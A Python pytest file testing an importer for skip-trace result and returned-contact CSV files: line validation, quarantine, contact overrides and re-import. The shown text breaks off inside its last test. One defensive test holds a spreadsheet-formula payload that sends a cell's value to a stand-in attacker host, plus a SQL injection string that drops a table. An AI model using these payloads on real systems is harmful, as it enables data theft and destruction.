"""Skip-trace result files and returned-contacts files (flows/lib/skip_results.py): the line
checks and their quarantine, what is applied (overrides over billing's contact details, never
in place of them), the requests answered, and importing the same file twice.

Requests are written straight into ops.skip_requests: making them is skip_tracing.py's job,
and these tests only need the ledger rows it writes. Billing customers are raw.customers rows
as ingest stores them."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from flows.lib.config import SkipTracingSettings
from flows.lib.skip_results import (
    RESULT_LAYOUT,
    RETURNED_LAYOUT,
    ReturnedContactsFileError,
    SkipResultFileError,
    import_returned_contacts,
    import_skip_results,
    override_id,
    problem_id,
)
from flows.lib.skip_tracing import request_id
from flows.lib.warehouse import open_warehouse
from tests.contact_fixtures import a_raw_fact

pytestmark = [pytest.mark.integration]
TODAY = dt.date(2026, 4, 2)
NOW = dt.datetime(2026, 4, 2, 14, 0, tzinfo=dt.UTC)
LOADED = dt.datetime(2026, 3, 1, 6, 0, tzinfo=dt.UTC)
REQUESTED = dt.date(2026, 3, 20)
SETTINGS = SkipTracingSettings(min_confidence=70)
RESULT_COLUMNS = list(RESULT_LAYOUT.column_names)
RETURNED_COLUMNS = list(RETURNED_LAYOUT.column_names)
NEW_ADDRESS = {
    "address_line1": " 9 Elm St ",
    "address_line2": "Apt 4",
    "city": "Dallas",
    "state": "tx",  # stored upper-cased
    "postal_code": "75201-1234",
    "country": "us",
}
# what billing sent for C1 (tests/builders.py defaults): Ann Lee, ann@example.com, no phone,
# 1 Main St, Austin TX 78701 US


@pytest.fixture
def connection(tmp_path: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    connection = open_warehouse(tmp_path / "w.duckdb")
    a_raw_fact(connection, "customers", loaded_at=LOADED, customer_id="C1")
    a_raw_fact(
        connection,
        "customers",
        loaded_at=LOADED,
        customer_id="C2",
        full_name="Bob Ray",
        email="bob@example.com",
        phone="+1 512 555 0101",
        address_line1="2 Oak Ave",
        postal_code="78702",
    )
    a_raw_fact(connection, "customers", loaded_at=LOADED, customer_id="C3", email="cy@example.com")
    yield connection
    connection.close()


def a_request(
    connection: duckdb.DuckDBPyConnection,
    customer_id: str,
    *,
    status: str = "open",
    requested_on: dt.date = REQUESTED,
) -> str:
    """One skip-trace request as skip_tracing.trace_skips writes it; returns its id."""
    identifier = request_id(customer_id, requested_on)
    answered = requested_on + dt.timedelta(days=3) if status in ("found", "not_found") else None
    requested_at = dt.datetime.combine(requested_on, dt.time(6), dt.UTC)
    connection.execute(
        """
        insert into ops.skip_requests values
            (?, ?, ?, 'test-run', ['email_hard_bounce'], ['A1'], 40, ?, ?, NULL, NULL, ?, ?)
        """,
        [identifier, customer_id, requested_on, status, answered, requested_at, requested_at],
    )
    return identifier


def a_result(request: str, customer_id: str = "C1", **values: str) -> dict[str, str]:
    """One result line: nothing found unless a group is given; source and confidence set."""
    unknown = set(values) - set(RESULT_COLUMNS)
    assert not unknown, f"a result line has no column {unknown}"
    blank = dict.fromkeys(RESULT_COLUMNS, "")
    return blank | {
        "request_id": request,
        "customer_id": customer_id,
        "source": "vendor-a",
        "confidence": "90",
        **values,
    }


def csv_file(folder: Path, name: str, columns: list[str], *lines: dict[str, str] | str) -> Path:
    """A CSV file with a header and lines: a dict becomes a CSV record, a str is written as is."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator="\n")
    writer.writeheader()
    for line in lines:
        if isinstance(line, str):
            buffer.write(line + "\n")
        else:
            writer.writerow(line)
    path = folder / name
    path.write_text(buffer.getvalue(), encoding="utf-8", newline="")
    return path


def results_file(folder: Path, *lines: dict[str, str] | str, name: str = "results.csv") -> Path:
    return csv_file(folder, name, RESULT_COLUMNS, *lines)


def returned_file(folder: Path, *lines: dict[str, str] | str, name: str = "returned.csv") -> Path:
    return csv_file(folder, name, RETURNED_COLUMNS, *lines)


def a_return(customer_id: str = "C1", channel: str = "letter", **values: str) -> dict[str, str]:
    blank = dict.fromkeys(RETURNED_COLUMNS, "")
    return (
        blank
        | {"customer_id": customer_id, "channel": channel, "reported_on": "2026-03-25"}
        | values
    )


def import_results(connection, path: Path, today: dt.date = TODAY, now: dt.datetime = NOW):
    return import_skip_results(connection, path, settings=SETTINGS, today=today, now=now)


def import_returned(connection, path: Path, today: dt.date = TODAY, now: dt.datetime = NOW):
    return import_returned_contacts(connection, path, today=today, now=now)


def contacts(connection, customer_id: str = "C1") -> dict[str, object]:
    cursor = connection.execute(
        "select * from ops.customer_contacts where customer_id = ?", [customer_id]
    )
    names = [column[0] for column in cursor.description]
    [values] = cursor.fetchall()
    return dict(zip(names, values, strict=True))


def request_state(connection, identifier: str) -> tuple:
    return connection.execute(
        "select status, answered_on, result_import_id from ops.skip_requests where request_id = ?",
        [identifier],
    ).fetchall()[0]


def judgements(connection) -> list[tuple]:
    return connection.execute(
        "select line_number, request_id, field_group, outcome from ops.skip_results order by 1, 3"
    ).fetchall()


def quarantined(connection) -> dict[int, list[str]]:
    rows = connection.execute(
        "select line_number, reason_codes from ops.skip_quarantine order by 1"
    ).fetchall()
    return dict(rows)


def count(connection, table: str) -> int:
    return connection.execute(f"select count(*) from {table}").fetchall()[0][0]


# --- what a good line does ------------------------------------------------------------------


def test_an_accepted_email_is_used_while_billing_keeps_its_own(connection, tmp_path) -> None:
    request = a_request(connection, "C1")
    path = results_file(tmp_path, a_result(request, email="  Ann.New@Example.com "))
    outcome = import_results(connection, path)

    assert (outcome.status, outcome.lines_read, outcome.lines_loaded) == ("loaded", 1, 1)
    assert outcome.outcomes == {"email": {"accepted": 1}}
    assert (outcome.requests_found, outcome.requests_not_found) == (1, 0)
    now_in_use = contacts(connection)
    assert now_in_use["email"] == "Ann.New@Example.com"  # trimmed, case kept
    assert (now_in_use["email_source"], now_in_use["email_updated_on"]) == ("skip_trace", TODAY)
    assert (now_in_use["phone_source"], now_in_use["address_source"]) == ("billing", "billing")
    # billing's row is never overwritten
    assert connection.execute("select email from raw.customers").fetchall()[:1] == [
        ("ann@example.com",)
    ]
    overrides = connection.execute(
        "select override_id, customer_id, field_group, email, phone, address_line1, "
        "billing_fingerprint, replaced_fingerprint, source, confidence, request_id, import_id, "
        "accepted_on, accepted_at from ops.contact_overrides"
    ).fetchall()
    assert overrides == [
        (
            override_id(request, "email"), "C1", "email", "Ann.New@Example.com", None, None,
            "ann@example.com", "ann@example.com", "vendor-a", 90, request, outcome.import_id,
            TODAY, NOW,
        )
    ]  # fmt: skip
    assert judgements(connection) == [(2, request, "email", "accepted")]
    assert request_state(connection, request) == ("found", TODAY, outcome.import_id)
    [(file_kind, lines)] = connection.execute(
        "select file_kind, [lines_read, lines_loaded, lines_quarantined] from ops.skip_result_files"
    ).fetchall()
    assert (file_kind, lines) == ("results", [1, 1, 0])


def test_an_address_and_a_phone_are_accepted_together_as_their_groups(connection, tmp_path) -> None:
    request = a_request(connection, "C1")
    path = results_file(tmp_path, a_result(request, phone="+1 (512) 555-0199", **NEW_ADDRESS))
    outcome = import_results(connection, path)

    assert outcome.outcomes == {"address": {"accepted": 1}, "phone": {"accepted": 1}}
    now_in_use = contacts(connection)
    assert [now_in_use[name] for name in NEW_ADDRESS] == [
        "9 Elm St", "Apt 4", "Dallas", "TX", "75201-1234", "US",
    ]  # fmt: skip
    assert now_in_use["phone"] == "+1 (512) 555-0199"
    assert now_in_use["phone_fingerprint"] == "5125550199"  # no country code
    assert now_in_use["email"] == "ann@example.com"  # not in the line: billing's stays
    groups = connection.execute(
        "select field_group, email, phone, city from ops.contact_overrides order by 1"
    ).fetchall()
    assert groups == [("address", None, None, "Dallas"), ("phone", None, "+1 (512) 555-0199", None)]


def test_a_result_below_the_minimum_confidence_is_recorded_and_not_applied(
    connection, tmp_path
) -> None:
    request = a_request(connection, "C1")
    path = results_file(tmp_path, a_result(request, email="ann.new@example.com", confidence="69"))
    outcome = import_results(connection, path)

    assert outcome.outcomes == {"email": {"low_confidence": 1}}
    assert judgements(connection) == [(2, request, "email", "low_confidence")]
    assert connection.execute("select confidence from ops.skip_results").fetchall() == [(69,)]
    assert count(connection, "ops.contact_overrides") == 0
    assert contacts(connection)["email"] == "ann@example.com"
    assert request_state(connection, request)[0] == "not_found"


def test_the_value_in_use_again_is_same_as_current(connection, tmp_path) -> None:
    request = a_request(connection, "C1")
    # case and surrounding spaces do not change where mail goes
    path = results_file(
        tmp_path,
        a_result(
            request, email=" ANN@example.com", address_line1="1  main st", city="AUSTIN",
            state="TX", postal_code="78701", country="US",
        ),
    )  # fmt: skip
    outcome = import_results(connection, path)

    assert outcome.outcomes == {
        "address": {"same_as_current": 1},
        "email": {"same_as_current": 1},
    }
    assert count(connection, "ops.contact_overrides") == 0
    assert request_state(connection, request)[0] == "not_found"


def test_a_line_that_gives_nothing_is_not_found(connection, tmp_path) -> None:
    request = a_request(connection, "C1")
    outcome = import_results(connection, results_file(tmp_path, a_result(request)))

    assert outcome.outcomes == {"none": {"not_found": 1}}
    assert judgements(connection) == [(2, request, "none", "not_found")]
    assert request_state(connection, request) == ("not_found", TODAY, outcome.import_id)
    assert "none: not_found 1" in str(outcome)
    assert "requests: 0 found, 1 not found" in str(outcome)


def test_a_late_answer_to_an_expired_request_is_accepted(connection, tmp_path) -> None:
    request = a_request(connection, "C1", status="expired", requested_on=dt.date(2026, 1, 5))
    path = results_file(tmp_path, a_result(request, email="ann.new@example.com"))
    outcome = import_results(connection, path)

    assert outcome.outcomes == {"email": {"accepted": 1}}
    assert request_state(connection, request)[0] == "found"
    assert contacts(connection)["email"] == "ann.new@example.com"


@pytest.mark.parametrize("status", ["found", "not_found"])
def test_an_answered_request_takes_no_second_result(connection, tmp_path, status) -> None:
    request = a_request(connection, "C1", status=status)
    path = results_file(tmp_path, a_result(request, email="ann.new@example.com"))
    outcome = import_results(connection, path)

    assert quarantined(connection) == {2: ["already_answered"]}
    [reasons] = connection.execute("select reasons from ops.skip_quarantine").fetchall()[0]
    assert f"was answered on 2026-03-23 ({status})" in reasons
    assert (outcome.lines_loaded, count(connection, "ops.contact_overrides")) == (0, 0)
    assert request_state(connection, request) == (status, dt.date(2026, 3, 23), None)


def test_billing_sending_a_new_value_later_wins_over_the_override(connection, tmp_path) -> None:
    request = a_request(connection, "C1")
    import_results(connection, results_file(tmp_path, a_result(request, email="skip@example.com")))
    assert contacts(connection)["email"] == "skip@example.com"

    # billing resends the old email with another change: the override still holds
    a_raw_fact(
        connection, "customers", loaded_at=NOW, batch_id=2, customer_id="C1",
        full_name="Ann Lee-Smith",
    )  # fmt: skip
    assert contacts(connection)["email"] == "skip@example.com"

    # the customer told billing a new email: billing's value is used again
    a_raw_fact(
        connection, "customers", loaded_at=NOW, batch_id=3, customer_id="C1",
        email="ann.told.billing@example.com",
    )  # fmt: skip
    now_in_use = contacts(connection)
    assert (now_in_use["email"], now_in_use["email_source"]) == (
        "ann.told.billing@example.com", "billing",
    )  # fmt: skip
    assert now_in_use["email_updated_on"] is None
    assert count(connection, "ops.contact_overrides") == 1  # kept as history


def test_csv_injection_and_sql_in_a_source_are_stored_as_plain_text(connection, tmp_path) -> None:
    first, second = a_request(connection, "C1"), a_request(connection, "C2")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    sql = "x'); drop table ops.skip_requests; --"
    path = results_file(
        tmp_path,
        a_result(first, email="ann.new@example.com", source=formula),
        a_result(second, "C2", email="bob.new@example.com", source=sql),
    )
    outcome = import_results(connection, path)

    assert outcome.lines_loaded == 2
    sources = connection.execute(
        "select source from ops.contact_overrides order by customer_id"
    ).fetchall()
    assert sources == [(formula,), (sql,)]
    assert count(connection, "ops.skip_requests") == 2  # still there


def test_the_summary_holds_counts_and_no_contact_details(connection, tmp_path) -> None:
    first, second, third = (a_request(connection, c) for c in ("C1", "C2", "C3"))
    path = results_file(
        tmp_path,
        a_result(first, email="ann.secret@example.com", phone="512 555 0142", **NEW_ADDRESS),
        a_result(second, "C2", email="bob.secret@example", phone="5550143"),  # quarantined
        a_result(third, "C3", email="cy.low@example.com", confidence="20"),
    )
    outcome = import_results(connection, path)
    summary = str(outcome)

    assert summary == (
        "results.csv: 3 lines read, 2 loaded, 1 quarantined (reasons: bad_email 1, "
        "bad_phone 1; see ops.skip_quarantine); email: accepted 1, low_confidence 1; "
        "phone: accepted 1; address: accepted 1; requests: 1 found, 1 not found."
    )
    for value in (
        "ann.secret", "bob.secret", "cy.low", "example", "0142", "0143", "Elm", "Dallas",
        "75201", "Apt",
    ):  # fmt: skip
        assert value not in summary
    quarantine_text = str(connection.execute("select * from ops.skip_quarantine").fetchall())
    assert "bob.secret" not in quarantine_text and "5550143" not in quarantine_text


# --- bad lines --------------------------------------------------------------------------------


def _bad(**values: str):
    """A bad line for C1's request (the good line beside it is C2's)."""
    return lambda ids: a_result(ids["C1"], **values)


BAD_RESULT_LINES = [
    pytest.param(
        lambda ids: a_result("", email="ann.new@example.com"),
        "missing_value", "request_id is empty", id="no request_id",
    ),
    pytest.param(
        lambda ids: a_result(ids["C1"], "", email="ann.new@example.com"),
        "missing_value", "customer_id is empty", id="no customer_id",
    ),
    pytest.param(_bad(source=""), "missing_value", "source is empty", id="no source"),
    pytest.param(_bad(confidence=""), "missing_value", "confidence is empty", id="no confidence"),
    pytest.param(
        lambda ids: a_result("not-a-request", email="ann.new@example.com"),
        "unknown_request", "'not-a-request' is not a request recoup made", id="unknown request",
    ),
    pytest.param(
        lambda ids: a_result(ids["C1"], "C3", email="ann.new@example.com"),
        "customer_mismatch", "'C3' is not the customer of request", id="another customer",
    ),
    pytest.param(
        lambda ids: a_result(ids["C9"], "C9", email="nine@example.com"),
        "unknown_customer", "'C9' has no billing record", id="customer not in billing",
    ),
    pytest.param(
        lambda ids: a_result(ids["C3-answered"], "C3", email="cy.new@example.com"),
        "already_answered", "was answered on", id="answered request",
    ),
    pytest.param(
        _bad(email="ann.new.example.com"), "bad_email", "email (value hidden) is not an email",
        id="email without @",
    ),
    pytest.param(_bad(phone="555-0100"), "bad_phone", "10 to 15 digits", id="phone too short"),
    pytest.param(
        _bad(phone="+1 512 555 01OO"), "bad_phone", "10 to 15 digits", id="phone with letters"
    ),
    pytest.param(
        _bad(address_line1="9 Elm St", state="TX", postal_code="75201", country="US"),
        "incomplete_address", "the address is incomplete: city empty", id="no city",
    ),
    pytest.param(
        _bad(city="Dallas"), "incomplete_address",
        "address_line1, postal_code, country empty", id="only a city",
    ),
    pytest.param(
        _bad(**(NEW_ADDRESS | {"state": "XX"})), "bad_state", "not a US state code",
        id="no such state",
    ),
    pytest.param(
        _bad(**(NEW_ADDRESS | {"state": ""})), "bad_state", "not a US state code",
        id="US address without a state",
    ),
    pytest.param(
        _bad(**(NEW_ADDRESS | {"postal_code": "7520"})), "bad_postal_code", "not a US ZIP code",
        id="four-digit ZIP",
    ),
    pytest.param(
        _bad(**(NEW_ADDRESS | {"country": "USA"})), "bad_country", "ISO 3166 alpha-2",
        id="alpha-3 country",
    ),
    pytest.param(_bad(confidence="101"), "bad_confidence", "'101' is not a whole number", id="101"),
    pytest.param(_bad(confidence="9.5"), "bad_confidence", "from 0 to 100", id="decimal"),
    pytest.param(_bad(confidence="-5"), "bad_confidence", "from 0 to 100", id="negative"),
    pytest.param(_bad(confidence="high"), "bad_confidence", "from 0 to 100", id="a word"),
    pytest.param(
        _bad(source="v" * 201), "value_too_long", "source is longer than 200", id="long source"
    ),
    pytest.param(
        _bad(address_line1="9 " + "Elm " * 60, city="Dallas", postal_code="75201", country="US",
             state="TX"),
        "value_too_long", "address_line1 is longer than 200", id="long address",
    ),
    pytest.param(
        _bad(email="ann\u0007@example.com"), "bad_value", "email holds control", id="bell"
    ),
    pytest.param(
        _bad(city="Dal\u202elas", address_line1="9 Elm St", postal_code="75201", country="US",
             state="TX"),
        "bad_value", "city holds control or other non-printable", id="direction override",
    ),
    pytest.param(
        _bad(source="vendor\tb"), "bad_value", "source holds control", id="tab in source"
    ),
    pytest.param(
        lambda ids: f"{ids['C1']},C1,ann.new@example.com",
        "unreadable_row", "the line has 3 fields; the header has 12", id="too few fields",
    ),
]  # fmt: skip


@pytest.mark.parametrize(("bad_line", "reason", "message"), BAD_RESULT_LINES)
def test_a_bad_result_line_is_quarantined_whole_and_the_good_ones_load(
    connection, tmp_path, bad_line, reason: str, message: str
) -> None:
    ids = {
        "C1": a_request(connection, "C1"),
        "C2": a_request(connection, "C2"),
        "C3-answered": a_request(connection, "C3", status="found"),
        "C9": a_request(connection, "C9"),  # a request for a customer billing never sent
    }
    path = results_file(
        tmp_path,
        a_result(ids["C2"], "C2", email="bob.new@example.com"),  # line 2: good
        bad_line(ids),  # line 3
    )
    outcome = import_results(connection, path)

    assert quarantined(connection) == {3: [reason]}
    [(reasons, file_kind)] = connection.execute(
        "select reasons, file_kind from ops.skip_quarantine"
    ).fetchall()
    assert message in reasons and file_kind == "results"
    assert (outcome.lines_read, outcome.lines_loaded, outcome.lines_quarantined) == (2, 1, 1)
    assert outcome.quarantined_by_reason == {reason: 1}
    assert judgements(connection) == [(2, ids["C2"], "email", "accepted")]
    assert contacts(connection, "C2")["email"] == "bob.new@example.com"
    # nothing of the bad line was applied, and its request still waits
    assert contacts(connection)["email"] == "ann@example.com"
    assert request_state(connection, ids["C1"])[0] == "open"
    assert "new@example" not in reasons and "Elm" not in reasons and "555" not in reasons


def test_a_line_with_several_problems_lists_every_reason(connection, tmp_path) -> None:
    request = a_request(connection, "C1")
    path = results_file(tmp_path, a_result(request, "C3", email="x", phone="12", confidence="abc"))
    import_results(connection, path)
    assert quarantined(connection) == {
        2: ["bad_confidence", "bad_email", "bad_phone", "customer_mismatch"]
    }
    [(reference, reasons)] = connection.execute(
        "select reference, reasons from ops.skip_quarantine"
    ).fetchall()
    assert reference == request
    for says in ("is not an email address", "10 to 15 digits", "'abc' is not a whole number"):
        assert says in reasons
    assert "(it was made for 'C1')" in reasons


def test_every_copy_of_a_request_in_one_file_is_set_aside(connection, tmp_path) -> None:
    request = a_request(connection, "C1")
    path = results_file(
        tmp_path,
        a_result(request, email="one@example.com"),
        a_result(request, email="two@example.com"),
    )
    outcome = import_results(connection, path)

    assert quarantined(connection) == {2: ["duplicate_line"], 3: ["duplicate_line"]}
    [reasons] = connection.execute("select reasons from ops.skip_quarantine limit 1").fetchall()[0]
    assert "is on lines 2, 3 of this file; every copy is set aside" in reasons
    assert outcome.lines_loaded == 0
    assert request_state(connection, request)[0] == "open"  # the vendor may send one line


def test_two_requests_of_one_customer_in_one_file_are_set_aside(connection, tmp_path) -> None:
    older = a_request(connection, "C1", status="expired", requested_on=dt.date(2026, 1, 5))
    newer = a_request(connection, "C1")
    path = results_file(
        tmp_path,
        a_result(older, email="one@example.com"),
        a_result(newer, email="two@example.com"),
    )
    import_results(connection, path)
    assert quarantined(connection) == {2: ["duplicate_line"], 3: ["duplicate_line"]}
    assert count(connection, "ops.contact_overrides") == 0


def test_a_header_only_file_loads_nothing_and_is_recorded(connection, tmp_path) -> None:
    outcome = import_results(connection, results_file(tmp_path))
    assert (outcome.status, outcome.lines_read, outcome.lines_loaded) == ("loaded", 0, 0)
    assert count(connection, "ops.skip_result_files") == 1


# --- the file as a whole ----------------------------------------------------------------------


HEADER = ",".join(RESULT_COLUMNS)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        pytest.param("results.csv", b"", "is empty (0 bytes)", id="0-byte file"),
        pytest.param(
            "results.csv",
            f"{HEADER}\nR1,C1,ann\xe9@example.com,,,,,,,,v,90\n".encode("latin-1"),
            "line 2 holds bytes that are not UTF-8 text",
            id="latin-1 bytes",
        ),
        pytest.param(
            "results.csv",
            HEADER.replace(",confidence", ",score").encode() + b"\n",
            "missing column(s) confidence; unknown column(s) 'score'",
            id="wrong header",
        ),
        pytest.param(
            "results.csv",
            HEADER.replace(",confidence", "").encode() + b"\n",
            "missing column(s) confidence",
            id="header without a column",
        ),
        pytest.param(
            "results.csv",
            HEADER.replace(",", ";").encode() + b"\n",
            "wrong header",
            id="semicolons",
        ),
        pytest.param("results.xlsx", b"PK\x03\x04 a spreadsheet", "is CSV", id="not CSV"),
        pytest.param("results.csv", b"\x00\x01binary", "binary data", id="binary content"),
        pytest.param(
            "results.csv",
            f'{HEADER}\nR1,C1,"never closed,,,,,,,,v,90\n'.encode(),
            "opens a quoted field that never closes",
            id="unclosed quote",
        ),
    ],
)
def test_a_result_file_that_cannot_be_read_fails_and_writes_nothing(
    connection, tmp_path, name: str, content: bytes, message: str
) -> None:
    request = a_request(connection, "C1")
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(SkipResultFileError) as failure:
        import_results(connection, path)
    assert message in str(failure.value)
    assert name in str(failure.value) and "Nothing from this file was loaded" in str(failure.value)
    for table in ("skip_result_files", "skip_results", "skip_quarantine", "contact_overrides"):
        assert count(connection, f"ops.{table}") == 0
    assert request_state(connection, request)[0] == "open"


def test_the_same_file_twice_changes_nothing_the_second_time(connection, tmp_path) -> None:
    request = a_request(connection, "C1")
    first = results_file(tmp_path, a_result(request, email="ann.new@example.com"))
    loaded = import_results(connection, first)
    again = tmp_path / "renamed.csv"
    again.write_bytes(first.read_bytes())
    later = NOW + dt.timedelta(days=1)
    outcome = import_results(connection, again, today=TODAY + dt.timedelta(days=1), now=later)

    assert (outcome.status, outcome.import_id, outcome.lines_read) == (
        "unchanged", loaded.import_id, 0,
    )  # fmt: skip
    assert outcome.imported_at == NOW
    assert str(outcome) == (
        "renamed.csv: these skip-trace results were imported on 2026-04-02 14:00 UTC; "
        "nothing changed."
    )
    assert count(connection, "ops.skip_result_files") == 1
    assert count(connection, "ops.skip_results") == 1
    assert count(connection, "ops.skip_quarantine") == 0


def test_an_error_while_writing_leaves_nothing_half_loaded(
    connection, tmp_path, monkeypatch
) -> None:
    import flows.lib.skip_results as skip_results

    def broken(*args, **kwargs) -> None:
        raise RuntimeError("disk full")

    request = a_request(connection, "C1")
    path = results_file(
        tmp_path, a_result(request, email="ann.new@example.com"), a_result("nope", email="x")
    )
    monkeypatch.setattr(skip_results, "_record_file", broken)
    with pytest.raises(RuntimeError, match="disk full"):
        import_results(connection, path)
    for table in ("skip_result_files", "skip_results", "skip_quarantine", "contact_overrides"):
        assert count(connection, f"ops.{table}") == 0
    assert request_state(connection, request) == ("open", None, None)
    monkeypatch.undo()
    assert import_results(connection, path).lines_loaded == 1  # and it can be imported later


# --- returned letters and invalid phone numbers ---------------------------------------------


def test_a_returned_letter_and_an_invalid_phone_mark_the_values_in_use(
    connection, tmp_path
) -> None:
    path = returned_file(
        tmp_path,
        a_return("C1", "letter", reason="moved, left no address", reference="LTR-77"),
        a_return("C2", "phone"),
    )
    outcome = import_returned(connection, path)

    assert (outcome.status, outcome.lines_read, outcome.lines_loaded) == ("loaded", 2, 2)
    assert outcome.problems_recorded == {"letter": 1, "phone": 1}
    assert str(outcome) == (
        "returned.csv: 2 lines read, 2 loaded, 0 quarantined; new problems: letter 1, phone 1; "
        "0 recorded before."
    )
    ann, bob = contacts(connection, "C1"), contacts(connection, "C2")
    assert (ann["address_returned"], ann["phone_invalid"]) == (True, False)
    assert (bob["address_returned"], bob["phone_invalid"]) == (False, True)
    assert contacts(connection, "C3")["address_returned"] is False
    rows = connection.execute(
        "select problem_id, customer_id, channel, fingerprint, reason, reported_on, source, "
        "import_id, recorded_at from ops.contact_problems order by customer_id"
    ).fetchall()
    c1_address = contacts(connection)["address_fingerprint"]
    reported = dt.date(2026, 3, 25)
    assert rows == [
        (
            problem_id("C1", "letter", c1_address, reported), "C1", "letter", c1_address,
            "moved, left no address", reported, "file:returned.csv", outcome.import_id, NOW,
        ),
        (
            problem_id("C2", "phone", "5125550101", reported), "C2", "phone", "5125550101",
            "phone_invalid", reported, "file:returned.csv", outcome.import_id, NOW,
        ),
    ]  # fmt: skip


def test_returned_contacts_already_known_or_imported_change_nothing(connection, tmp_path) -> None:
    first = import_returned(connection, returned_file(tmp_path, a_return("C1")))
    assert first.problems_recorded == {"letter": 1}

    same = import_returned(connection, returned_file(tmp_path, a_return("C1"), name="copy.csv"))
    assert same.status == "unchanged" and "nothing changed" in str(same)

    # another file reporting the same letter again (with a reference now): nothing new
    path = returned_file(tmp_path, a_return("C1", reference="LTR-1"), name="again.csv")
    again = import_returned(connection, path)
    assert (again.status, again.lines_loaded, again.problems_known) == ("loaded", 1, 1)
    assert again.problems_recorded == {}
    assert count(connection, "ops.contact_problems") == 1


def test_the_optional_columns_may_be_left_out_of_the_header(connection, tmp_path) -> None:
    path = csv_file(tmp_path, "returned.csv", ["reported_on", "channel", "customer_id"],
                    {"customer_id": "C1", "channel": "letter", "reported_on": "2026-03-25"})  # fmt: skip
    outcome = import_returned(connection, path)
    assert outcome.problems_recorded == {"letter": 1}
    assert connection.execute("select reason from ops.contact_problems").fetchall() == [
        ("returned_mail",)
    ]


BAD_RETURNED_LINES = [
    pytest.param(a_return(""), "missing_value", "customer_id is empty", id="no customer"),
    pytest.param(a_return(channel=""), "missing_value", "channel is empty", id="no channel"),
    pytest.param(
        a_return(reported_on=""), "missing_value", "reported_on is empty", id="no date"
    ),
    pytest.param(
        a_return("C404"), "unknown_customer", "'C404' is not a billing customer",
        id="unknown customer",
    ),
    pytest.param(
        a_return(channel="email"), "bad_channel", "is not one of: letter, phone", id="email"
    ),
    pytest.param(
        a_return(reported_on="2026-02-30"), "bad_date", "is not a real date", id="no such day"
    ),
    pytest.param(
        a_return(reported_on="03/25/2026"), "bad_date", "write YYYY-MM-DD", id="US date"
    ),
    pytest.param(
        a_return(reported_on="2026-04-03"), "future_date", "is after today (2026-04-02)",
        id="tomorrow",
    ),
    pytest.param(
        a_return("C1", "phone"), "nothing_on_record", "has no phone number on record",
        id="no phone in use",
    ),
    pytest.param(
        a_return("C2", "phone"), "duplicate_line", "are on line 2 of this file",
        id="same report twice",
    ),
    pytest.param(
        a_return(reason="r" * 201), "value_too_long", "reason is longer than 200",
        id="long reason",
    ),
    pytest.param(
        a_return(reference="LTR\u001b[1m"), "bad_value", "reference holds control",
        id="escape code in reference",
    ),
    pytest.param("C1,letter", "unreadable_row", "has 2 fields; the header has 5", id="too few"),
]  # fmt: skip


@pytest.mark.parametrize(("bad_line", "reason", "message"), BAD_RETURNED_LINES)
def test_a_bad_returned_line_is_quarantined_and_the_good_ones_load(
    connection, tmp_path, bad_line, reason: str, message: str
) -> None:
    path = returned_file(tmp_path, a_return("C2", "phone"), bad_line)  # line 2 good, 3 bad
    outcome = import_returned(connection, path)

    assert quarantined(connection) == {3: [reason]}
    [(reasons, file_kind)] = connection.execute(
        "select reasons, file_kind from ops.skip_quarantine"
    ).fetchall()
    assert message in reasons and file_kind == "returned"
    assert (outcome.lines_read, outcome.lines_loaded, outcome.quarantined_by_reason) == (
        2, 1, {reason: 1},
    )  # fmt: skip
    assert connection.execute(
        "select customer_id, channel from ops.contact_problems"
    ).fetchall() == [("C2", "phone")]
    assert contacts(connection)["address_returned"] is False


def test_a_letter_for_a_customer_without_a_complete_address_is_set_aside(
    connection, tmp_path
) -> None:
    a_raw_fact(
        connection, "customers", loaded_at=LOADED, customer_id="C4", address_line1="",
        city="",
    )  # fmt: skip
    import_returned(connection, returned_file(tmp_path, a_return("C4")))
    assert quarantined(connection) == {2: ["nothing_on_record"]}
    [(reference, reasons)] = connection.execute(
        "select reference, reasons from ops.skip_quarantine"
    ).fetchall()
    assert reference == "C4" and "has no complete address on record" in reasons


def test_a_returned_contacts_file_that_cannot_be_read_fails_and_writes_nothing(
    connection, tmp_path
) -> None:
    path = tmp_path / "returned.csv"
    path.write_text("customer_id,channel,returned_on\nC1,letter,2026-03-25\n", encoding="utf-8")
    with pytest.raises(
        ReturnedContactsFileError, match=r"missing column\(s\) reported_on"
    ) as failure:
        import_returned(connection, path)
    assert isinstance(failure.value, SkipResultFileError)  # one except clause covers both files
    assert "Nothing from this file was loaded" in str(failure.value)
    path.write_bytes(b"")
    with pytest.raises(ReturnedContactsFileError, match="is empty"):
        import_returned(connection, path)
    for table in ("skip_result_files", "skip_quarantine", "contact_problems"):
        assert count(connection, f"ops.{table}") == 0


def test_a_returned_letter_does_not_mark_the_address_that_replaced_it(connection, tmp_path) -> None:
    import_returned(connection, returned_file(tmp_path, a_return("C1")))
    assert contacts(connection)["address_returned"] is True

    request = a_request(connection, "C1")
    later = TODAY + dt.timedelta(days=5)
    path = results_file(tmp_path, a_result(request, **NEW_ADDRESS))
    import_results(connection, path, today=later, now=NOW + dt.timedelta(days=5))
    now_in_use = contacts(connection)
    assert (now_in_use["address_line1"], now_in_use["address_returned"]) == ("9 Elm St", False)
    assert count(connection, "ops.contact_problems") == 1  # the old address's problem stays


def test_a_return_reported_before_the_address_in_use_was_accepted_is_set_aside(
    connection, tmp_path
) -> None:
    request = a_request(connection, "C1")
    import_results(connection, results_file(tmp_path, a_result(request, **NEW_ADDRESS)))
    # the print vendor's file arrives later, about a letter to the address before (2026-03-25)
    later = TODAY + dt.timedelta(days=3)
    path = returned_file(tmp_path, a_return("C1"), a_return("C1", reported_on="2026-04-04"))
    outcome = import_returned(connection, path, today=later, now=NOW + dt.timedelta(days=3))

    assert quarantined(connection) == {2: ["replaced_since"]}
    [reasons] = connection.execute("select reasons from ops.skip_quarantine").fetchall()[0]
    assert "accepted from a skip trace on 2026-04-02, on or after reported_on 2026-03-25" in reasons
    # the one reported after the new address was accepted concerns the new address
    assert outcome.problems_recorded == {"letter": 1}
    assert contacts(connection)["address_returned"] is True


def test_a_found_email_is_not_used_when_found_emails_are_off(connection, tmp_path) -> None:
    """A third-party collector's default: the vendor's email is recorded, never used."""
    from flows.lib.config import Settings

    request = a_request(connection, "C1")
    path = results_file(
